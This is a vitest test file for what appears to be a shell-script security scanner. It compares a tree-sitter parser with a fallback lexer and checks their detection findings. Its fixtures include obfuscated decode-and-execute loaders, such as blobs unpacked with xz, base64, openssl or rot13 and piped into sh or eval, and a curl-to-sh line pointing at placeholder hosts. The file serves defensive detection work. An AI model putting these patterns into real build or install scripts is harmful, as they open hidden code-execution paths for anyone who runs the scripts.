import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { atLeast } from '../../src/model/finding.js'
import type { CommandList } from '../../src/rules/shell/ast.js'
import { lexShell, parseShell } from '../../src/rules/shell/parse.js'
import { LEXER_FROM_CHARS, loadShellGrammar, parseWithTreeSitter, shellGrammarLoaded, TREE_SITTER_MAX_CHARS, useShellGrammar } from '../../src/rules/shell/tree-sitter.js'
import { allCommands, allPipelines } from '../../src/rules/shell/walk.js'
import { findingsOf, walkFiles } from './helpers.js'

const run = promisify(execFile)

/** Each pipeline as `line: prog args | prog args`, nested ones included. */
const shape = (list: CommandList): string[] =>
  allPipelines(list).map(
    (s) => `${s.pipeline.line}:${s.origin === 'top' ? '' : `${s.origin}:`} ${s.pipeline.commands.map((c) => (c.compound ? `<${c.compound.kind}>` : c.words.map((w) => w.text).join(' '))).join(' | ')}`,
  )
const ts = (text: string, firstLine = 1): CommandList => {
  const list = parseWithTreeSitter(text, { firstLine })
  if (!list) throw new Error('tree-sitter did not take the text')
  return list
}
const findings = (path: string, text: string, grammar: boolean): string[] => {
  useShellGrammar(grammar)
  try {
    return findingsOf(path, text).map((f) => `${f.ruleId}:${f.severity}:${f.line}`)
  } finally {
    useShellGrammar(true)
  }
}

describe('loading the grammar', () => {
  it('does not happen at import: until then parseShell uses the lexer', () => {
    expect(shellGrammarLoaded()).toBe(false)
    expect(parseWithTreeSitter('a | b')).toBeUndefined()
    expect(shape(parseShell('a | b'))).toEqual(['1: a | b'])
  })

  it('is idempotent', async () => {
    await Promise.all([loadShellGrammar(), loadShellGrammar()])
    await loadShellGrammar()
    expect(shellGrammarLoaded()).toBe(true)
    expect(parseWithTreeSitter('a | b')).toBeDefined()
  })
})

describe('tree-sitter converted into the lexer AST', () => {
  beforeAll(loadShellGrammar)

  it('reads lists, pipelines, redirections and line numbers from firstLine on', () => {
    const list = ts('a x | b |& c; d && e || f & g\nh 2>/dev/null <in >>out\n', 10)
    expect(list.pipelines.map((p) => [p.connector, p.line, p.commands.length])).toEqual([
      ['', 10, 3],
      [';', 10, 1],
      ['&&', 10, 1],
      ['||', 10, 1],
      ['&', 10, 1],
      ['\n', 11, 1],
    ])
    const h = list.pipelines[5]?.commands[0]
    expect(h?.redirects.map((r) => `${r.fd}${r.op}${r.target?.text}`)).toEqual(['2>/dev/null', '<in', '>>out'])
  })

  it('gives the same shapes as the lexer on ordinary scripts', () => {
    for (const text of [
      'x=$(a | b "$(c | d `e | f`)")',
      'first\ncat f |\n  tr a b \\\n  | sh\nlast\n',
      'if test -f x; then a | b; else c; fi\nwhile read l; do d; done < f\nfor i in 1 2; do e; done\n( f; g ) | h\n{ i; }\n',
      "cat <<EOF | sh\nit's here: a | b\nEOF\nafter 'x'\n",
      `cmd='cat f | base64 -d'\neval "x | y"\nsh -c 'p | q'\nplain="just text"`,
      `printf '%s\\n' "a\\"b\\$c\\d" e\\ f $'t\\tx\\101'`,
    ]) {
      expect(shape(ts(text)), text).toEqual(shape(lexShell(text)))
    }
  })

  it('keeps case patterns apart, even with ) inside quotes or escaped', () => {
    const list = ts('case "$h" in\n  "a)b"|a\\)) eval "$y" | sh ;;\n  *) x=$(echo ")") ;;\nesac\n')
    const c = list.pipelines[0]?.commands[0]?.compound
    expect(c?.kind).toBe('case')
    expect(c?.words.map((w) => w.text)).toEqual(['$h', 'a)b', 'a)', '*'])
    expect(shape(list)).toEqual(["1: <case>", "2:compound: eval $y | sh", "3:compound: x=$(echo \")\")", "3:substitution: echo )"])
  })

  it('reads nested double quotes inside $(...) inside double quotes', () => {
    const list = ts('echo "a $(echo "b c" | tr "b" "c") d" | sh')
    expect(shape(list)).toEqual(['1: echo a $(echo "b c" | tr "b" "c") d | sh', '1:substitution: echo b c | tr b c'])
  })

  it('reads here-documents with quoted delimiters, and the rest of their command line', () => {
    const list = ts("cat <<'EOF' > f\nit is $(not run) | x\nEOF\ncat <<\"E\" | sh\nbase64 -d < x\nE\ndone_\n")
    // here-document bodies are read as code whatever their delimiter, as the lexer does
    expect(shape(list)).toEqual(['1: cat', '2:heredoc: it is $(not run) | x', '2:substitution: not run', '4: cat | sh', '5:heredoc: base64 -d', '7: done_'])
    const cat = list.pipelines[0]?.commands[0]
    expect(cat?.redirects.map((r) => `${r.op}${r.target?.text}:${String(r.target?.quoted)}`)).toEqual(['<<EOF:true', '>f:false'])
    expect([cat?.line, cat?.endLine]).toEqual([1, 1])
  })

  it("decodes $'...' strings and keeps them as one quoted word", () => {
    const words = ts("printf $'a\\tb\\x41\\'c' $'\\101'").pipelines[0]?.commands[0]?.words
    expect(words?.map((w) => [w.text, w.quoted])).toEqual([
      ['printf', false],
      ["a\tbA'c", true],
      ['A', true],
    ])
  })

  it('joins a word the shell joins across a line continuation, as the lexer does', () => {
    // the grammar splits `e\<newline>val` into two words; the shell removes the continuation and runs eval
    const text = 'e\\\nval "$(cat f | tr a-z n-za-m)"\nec\\\nho "a"\\\nb c \\\n  d\n'
    expect(shape(ts(text))).toEqual(['1: eval $(cat f | tr a-z n-za-m)', '2:substitution: cat f | tr a-z n-za-m', '3: echo ab c d'])
    expect(shape(lexShell(text))).toEqual(shape(ts(text)))
    // a code string joined across the continuation runs as one script, its lines counted as the lexer counts them
    const quoted = 'sh -c "echo a;\n cat f | tr a-z n-za-m"\\\n"; true"\n'
    expect(shape(ts(quoted))).toEqual(['1: sh -c echo a;\n cat f | tr a-z n-za-m; true', '1:string: echo a', '2:string: cat f | tr a-z n-za-m', '2:string: true'])
    expect(shape(lexShell(quoted))).toEqual(shape(ts(quoted)))
    // quoted text spanning lines is read as code wherever it stands (a stray quote must not hide lines), joined or not
    const spanning = 'echo "x\ncurl -s http://h.invalid/p | sh"\\\n"y"\n'
    expect(shape(ts(spanning))).toContain('2:string: curl -s http://h.invalid/p | sh')
  })

  it('finds substitutions inside ${...} and $((...)), as the lexer does', () => {
    const text = 'echo ${v:-$(cat f | base64 -d)} $(( $(wc -l < f) + 1 ))'
    expect(shape(ts(text))).toEqual(['1: echo ${v:-$(cat f | base64 -d)} $(( $(wc -l < f) + 1 ))', '1:substitution: cat f | base64 -d', '1:substitution: wc -l'])
    expect(shape(lexShell(text))).toEqual(shape(ts(text)))
  })

  it('reads functions, negation, tests, declarations and assignments', () => {
    const list = ts('f() { a | b; }\nfunction g { c; }\n! d | e\n[ -f x ] && [[ $a == b* ]]\nexport A=$(z) B\nx=1 y="2 3"\n')
    expect(shape(list)).toEqual(['1: <brace>', '1:compound: a | b', '2: <brace>', '2:compound: c', '3: d | e', '4: [ -f x ]', '4: [[ $a == b* ]]', '5: export A=$(z) B', '5:substitution: z', '6: x=1 y=2 3', '6:string: 2 3'])
  })

  it('hands statements tree-sitter cannot parse to the lexer, in place', () => {
    const list = ts('a | b\nc | d\ne | f\necho ) x | sh\ncat y | sh\n', 5)
    expect(shape(list)).toEqual(['5: a | b', '6: c | d', '7: e | f', '8: echo', '8: x | sh', '9: cat y | sh'])
    expect(allCommands(list).filter((c) => c.words.some((w) => w.text === 'sh')).map((c) => c.line)).toEqual([8, 9])
  })

  it('leaves mostly-broken and oversized texts to the lexer', () => {
    expect(parseWithTreeSitter('echo "open\nnext line')).toBeUndefined()
    expect(parseWithTreeSitter('if '.repeat(5000))).toBeUndefined()
    expect(parseWithTreeSitter('x'.repeat(TREE_SITTER_MAX_CHARS + 1))).toBeUndefined()
    expect(shape(parseShell('echo "open\nnext line'))).toEqual(['1: echo open', '2: next line'])
  })

  it('parseShell gives texts of LEXER_FROM_CHARS or more to the lexer, smaller ones to the grammar', () => {
    const head = 'a=(x y)\n'
    const pad = `# ${'p'.repeat(78)}\n`
    const large = head + pad.repeat(Math.ceil(LEXER_FROM_CHARS / pad.length))
    // the two parsers read a bash array assignment differently, which shows who read the text
    expect(shape(ts(head))).not.toEqual(shape(lexShell(head)))
    expect(shape(parseShell(head))).toEqual(shape(ts(head)))
    expect(shape(parseShell(large))).toEqual(shape(lexShell(large)))
    expect(shape(parseShell(large))).not.toEqual(shape(ts(large)))
  })

  it('never throws or hangs on hostile input', () => {
    const hostile = [
      `echo "${'$('.repeat(5000)}`,
      'echo ' + '$('.repeat(3000) + ')'.repeat(3000),
      'echo "$(echo "'.repeat(500) + 'x' + ')"'.repeat(500),
      '{ '.repeat(3000) + 'x' + '; }'.repeat(3000),
      'a && '.repeat(20_000) + 'b',
      'a | '.repeat(5_000) + 'b',
      "'".repeat(3001),
      '`'.repeat(4001),
      Array.from({ length: 3000 }, (_, i) => `cat <<E${i}`).join('\n') + '\n' + 'line\n'.repeat(3000),
      'x=$(('.repeat(4000),
      'echo ' + 'a'.repeat(5_000_000),
    ]
    for (const text of hostile) {
      expect(() => allPipelines(parseShell(text))).not.toThrow()
    }
  })
})

/** Plain-shell cases of the rule tests (and a few more): both paths must give the same findings. */
const CASES: [string, string][] = [
  ['scripts/unpack.sh', '#!/bin/sh\nf=$srcdir/testdata/sample.bin\n( dd if=$f bs=1 skip=4096 count=2048 2>/dev/null; \\\n  tail -c +900 $f ) | \\\n  xz -F raw --lzma1 -dc | /bin/sh\n'],
  ['build/prep.sh', '#!/bin/bash\npayload=$(openssl enc -d -aes-256-cbc -pass pass:k -in "$top/data/blob.bin")\neval "$payload"\n'],
  ['build/hex.sh', '#!/bin/bash\n. <(xxd -r -p "$srcdir/fixtures/hex.dat")\n'],
  ['build/rot.sh', "#!/bin/sh\nsed -n p \"$SRC/tests/corpus/seed.dat\" |\n  perl -pe 'tr/!-~/P-~!-O/' |\n  bzip2 -dc |\n  bash -s\n"],
  ['build/two-step.sh', '#!/bin/sh\nbase64 --decode < "$srcdir/samples/logo.png" > "$tmp/x.sh"\nsh "$tmp/x.sh"\n'],
  ['bootstrap', '#!/bin/sh\nsh -c "$(base32 -d < .blob)"\n'],
  ['setup.sh', '#!/bin/sh\ndecomp=unxz\n$decomp < "$1" | sh\n'],
  ['setup2.sh', '#!/bin/bash\nbash <<< "$(gunzip -c assets/init.gz)"\n'],
  ['setup3.sh', '#!/bin/sh\nblob=$(tail -c 4096 "$0" | base64 -d)\necho "$blob" | $SHELL\n'],
  ['setup4.sh', '#!/bin/sh\n$(printf %s "$enc" | rev | base64 -d)\n'],
  ['swap.sh', "#!/bin/sh\nfrom='a-zA-Z'\nto='n-za-mN-ZA-M'\ncat blob | tr \"$from\" \"$to\" | gzip -d > x\n"],
  ['gate.sh', '#!/bin/sh\nif test "x$CI" = x && test -d .git; then\n  grep -la "MARK" tests/files/*.xz | head -n1 > f\n  cat <<EOF | sh\n$(sed -n p $(cat f) | xz -dc)\nEOF\nfi\n'],
  ['configure', '#!/bin/sh\n# Generated by GNU Autoconf 2.71\neval "$as_var=yes"\neval ac_val=\\$$ac_var\neval "$ac_compile"\n$AWK -f "$ac_tmp/subs.awk" | $SHELL\n'],
  ['install.sh', '#!/bin/sh\ncurl -fsSL https://example.org/get | sh\n'],
  ['unpack.sh', '#!/bin/sh\ngzip -dc foo.tar.gz | tar xf -\nxz -dc data.xz > data.bin\nbase64 -d < a > b; cat b\n'],
  ['version.sh', '#!/bin/sh\neval "$(grep ^VERSION= version.sh)"\neval `sed -n s/^X=//p conf`\n'],
  ['docs.sh', "#!/bin/sh\necho 'xz -d < f | sh'\n# cat x | base64 -d | sh\nsh -c 'exit 0'\n"],
  ['keys.sh', '#!/bin/sh\nhead -c 16 /dev/urandom | base64 | sh -c "cat > key"\n'],
]

describe('both paths find the same', () => {
  beforeAll(loadShellGrammar)

  for (const [path, text] of CASES) {
    it(`on ${path}`, () => {
      expect(findings(path, text, true)).toEqual(findings(path, text, false))
    })
  }

  it('on the installed plain-shell scripts of autotools, libtool and gnulib', () => {
    const files = ['/usr/share/libtool/build-aux', '/usr/share/gnulib/build-aux', '/usr/share/automake-1.16', '/usr/share/misc/config.guess', '/usr/share/misc/config.sub']
      .flatMap(walkFiles)
      .filter((f) => /^#!\s*\S*\/(?:ba)?sh\b/.test(readFileSync(f, 'utf8').slice(0, 40)))
    expect(files.length).toBeGreaterThan(10)
    for (const file of files) {
      const text = readFileSync(file, 'utf8')
      expect(findings(file.replace(/^\/usr\/share\//, ''), text, true), file).toEqual(findings(file.replace(/^\/usr\/share\//, ''), text, false))
    }
  })
})

describe('a generated configure script through tree-sitter', () => {
  let dir = ''
  beforeAll(async () => {
    await loadShellGrammar()
    dir = mkdtempSync(join(tmpdir(), 'stagelight-ts-'))
    writeFileSync(
      join(dir, 'configure.ac'),
      'AC_INIT([demo], [1.0])\nAC_PROG_CC\nAC_PROG_SED\nAC_PROG_GREP\nAC_CHECK_HEADERS([stdio.h stdlib.h])\nAC_CHECK_FUNCS([malloc])\ncase $host_os in\n  linux*) X=1 ;;\n  *) X= ;;\nesac\nAC_SUBST([X])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n',
    )
    writeFileSync(join(dir, 'Makefile.in'), 'all:\n\t@echo ok\n')
    await run('autoconf', [], { cwd: dir })
  }, 300_000)
  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true })
  })

  it('is parsed by tree-sitter and raises nothing at medium or above', () => {
    const text = readFileSync(join(dir, 'configure'), 'utf8')
    const list = parseWithTreeSitter(text)
    expect(list).toBeDefined()
    expect(allPipelines(list ?? { pipelines: [] }).length).toBeGreaterThan(1000)
    expect(findingsOf('configure', text).filter((f) => atLeast(f.severity, 'medium'))).toEqual([])
  })
})
